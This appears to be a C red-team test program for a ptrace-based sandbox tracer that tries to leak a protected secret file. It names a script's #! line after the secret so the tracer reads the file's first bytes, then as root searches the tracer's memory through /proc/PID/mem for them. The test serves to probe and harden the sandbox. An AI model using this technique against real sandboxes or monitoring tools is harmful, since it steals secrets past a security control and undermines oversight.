/* tr_readback.c: what the tracer read for a decision, read back from its memory (issue 11,
 * red team).
 *
 * To decide an exec the tracer reads the files the kernel will run: a script's #! line, the
 * interpreter's own first bytes (its #! line, up to four levels), the ELF's PT_INTERP.  A
 * permitted script whose #! line names the secret made the tracer read the secret's first 256
 * bytes -- before the rules refused it as an interpreter.  A root tracee may read any process's
 * memory through /proc/PID/mem (CAP_SYS_PTRACE passes over the tracer's non-dumpable flag),
 * and the tracer's pid is in /proc/self/status (TracerPid): the bytes were there to find.
 *
 *   tr_readback MODE WORK SECRET
 *
 * MODE:
 *   script  exec WORK/run.sh, whose #! line names SECRET (then look in the tracer's memory)
 *   self    the control: with no tracer, the program reads SECRET itself (into its own memory)
 *           and looks there, through /proc/self/mem -- the same search, the same bytes
 * A tracee that finds the secret's magic in the memory it reads prints ESCAPED.
 */
#include "attack.h"

/* Whether the memory of process `pid` holds the magic (its writable private mappings). */
static int memory_holds_magic(int pid, const char **why) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY);
    if (!maps || mem < 0) {
        *why = ename(errno);
        if (maps)
            fclose(maps);
        if (mem >= 0)
            close(mem);
        return 0;
    }
    static char chunk[1 << 20];
    const size_t magic_len = strlen(SECRET_MAGIC);
    char line[512];
    int found = 0;
    while (!found && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3 || perms[0] != 'r'
                || perms[1] != 'w')
            continue;
        for (unsigned long at = start; at < end && !found; at += sizeof chunk) {
            size_t want = end - at < sizeof chunk ? end - at : sizeof chunk;
            ssize_t n = pread(mem, chunk, want, (off_t)at);
            if (n > 0 && memmem(chunk, (size_t)n, SECRET_MAGIC, magic_len))
                found = 1;
        }
    }
    fclose(maps);
    close(mem);
    *why = found ? "" : "not found";
    return found;
}

int main(int argc, char **argv) {
    if (argc != 4)
        usage("tr_readback script|self WORK SECRET");
    const char *mode = argv[1], *work = argv[2], *secret = argv[3];
    const char *why = "";
    if (geteuid() != 0)
        skipped("reading another process's memory past its non-dumpable flag needs root");
    if (strcmp(mode, "self") == 0) {
        /* the control: the same search over memory that holds the secret's bytes */
        static char copy[512];
        int fd = open(secret, O_RDONLY);
        if (fd < 0 || read(fd, copy, sizeof copy) <= 0)
            blocked("cannot read the secret natively: %s", ename(errno));
        if (memory_holds_magic(getpid(), &why))
            escaped("the secret's bytes found in memory read through /proc/%d/mem", getpid());
        blocked("the search failed: %s", why);
    }
    char script[4096];
    snprintf(script, sizeof script, "%s/run.sh", work);
    FILE *f = fopen(script, "w");
    if (!f)
        blocked("cannot write %s: %s", script, ename(errno));
    fprintf(f, "#!%s\n", secret);
    fclose(f);
    chmod(script, 0755);
    pid_t child = fork();
    if (child == 0) {
        execl(script, script, (char *)NULL);
        _exit(errno);
    }
    int status = 0;
    waitpid(child, &status, 0);
    note("exec of a script interpreted by the secret: %s",
         WIFEXITED(status) ? ename(WEXITSTATUS(status)) : "signalled");
    int pid = tracer_pid();
    if (pid == 0)
        skipped("no tracer: run the control in mode self");
    if (memory_holds_magic(pid, &why))
        escaped("the secret's bytes found in the tracer's memory (/proc/%d/mem)", pid);
    blocked("the tracer's memory: %s", why);
}
